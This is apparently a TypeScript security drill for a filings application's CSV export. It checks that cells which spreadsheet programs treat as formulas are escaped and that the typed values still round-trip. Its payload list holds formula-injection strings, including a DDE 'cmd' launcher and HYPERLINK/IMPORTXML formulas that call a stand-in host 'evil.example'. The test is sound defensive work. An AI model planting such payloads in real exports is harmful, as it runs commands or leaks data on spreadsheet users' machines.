import { cellOf } from '../platform/csv.js'
import { FilingsExport } from '../filings/filings-export.service.js'
import type { TestAccount } from '../testing/accounts.js'
import type { TestApp } from '../testing/app.js'
import { FilingJourneys } from '../testing/filing-journey.js'
import type { Drill } from './drill.js'

/** What a spreadsheet program would run, as a name that is exported. Line breaks and tabs are tried in `csv.test.ts`. */
const payloads: readonly string[] = [
  '=1+1', '+1', '-1', '@SUM(A1)', '=cmd|\' /C calc\'!A0', '＝1+1', '＋1', '－1', '＠SUM', '"=1+1', ';=1+1', ',=1+1', 'a,=1+1', 'a";=1', '" =1', "'=1", "''=1", '=HYPERLINK("http://evil.example","x")',
  '-2+3+cmd|x', '@', '=', '|cmd', '%0A=1', '+86 138', '=IMPORTXML("http://evil.example")', "=1+1'", '==1', '+-1', '-@1', '=“1”',
]

/** A cell that a program takes as a formula, whatever blanks, quotes and invisible characters stand before it. */
const runs = /^[\s"\u200b-\u200f\u2060\ufeff]*[=+\-@＝＋－＠|%\t\r\n]/

/** As a spreadsheet program reads it. */
function read(text: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, quoted, end] of text.replace(/^\ufeff/, '').matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    rows.at(-1)!.push((quoted ?? '').replaceAll('""', '"'))
    if (end === '\r\n') rows.push([])
  }
  return rows.slice(0, -1)
}

export const drill: Drill = {
  id: 'F25',
  promise: 'P15: no cell of an export begins with what a spreadsheet program runs, and what was typed comes back from it',
  fault: 'the cells stand as they were typed',
  run: async ({ startApi, planted, full, random }) => {
    const api = await startApi()
    if (planted) leaveAsTyped(api)
    const chosen = full ? payloads : random.shuffled(payloads).slice(0, 8)
    const takers = await file(api, chosen)
    const violations: string[] = []
    let cells = 0
    for (const [who, as, typed] of takers) {
      for (const language of ['zh', 'en'] as const) {
        const { body } = await api.inject('exportFilings', { query: { language } }, { as })
        const rows = read(body.csv).slice(1)
        if (rows.length !== typed.length) violations.push(`${who}: ${rows.length} rows of ${typed.length}`)
        for (const cell of rows.flat()) {
          cells++
          if (runs.test(cell)) violations.push(`${who}: a cell begins as ${JSON.stringify(cell.slice(0, 12))}`)
        }
        const back = new Set(rows.flat().map(cellOf))
        violations.push(...typed.filter((text) => !back.has(text)).map((text) => `${who}: ${JSON.stringify(text)} does not come back`))
      }
    }
    return { figure: `${chosen.length} payloads, ${takers.length * 2} exports, ${cells} cells: ${violations.length} that run, are lost or do not come back`, violations }
  },
}

function leaveAsTyped(api: TestApp): void {
  const exports = api.app.get(FilingsExport, { strict: false })
  const real = exports.export.bind(exports)
  exports.export = async (actor, query) => {
    const made = await real(actor, query)
    return { ...made, csv: made.csv.replaceAll('"\'', '"') }
  }
}

/** One filing for each payload, which is the name of its provider: names of subjects and websites that begin so are refused by the rules. */
async function file(api: TestApp, chosen: readonly string[]) {
  const reviewer = await api.accounts.reviewer('110000')
  const journeys = new FilingJourneys(api, reviewer)
  const takers: (readonly [string, TestAccount, readonly string[]])[] = [['the administration', reviewer, chosen]]
  for (const [n, text] of chosen.entries()) {
    const provider = await journeys.provider(text)
    await journeys.finished([provider])
    if (n < 3) takers.push([`the provider ${JSON.stringify(text)}`, provider.staff, [text]])
  }
  return takers
}
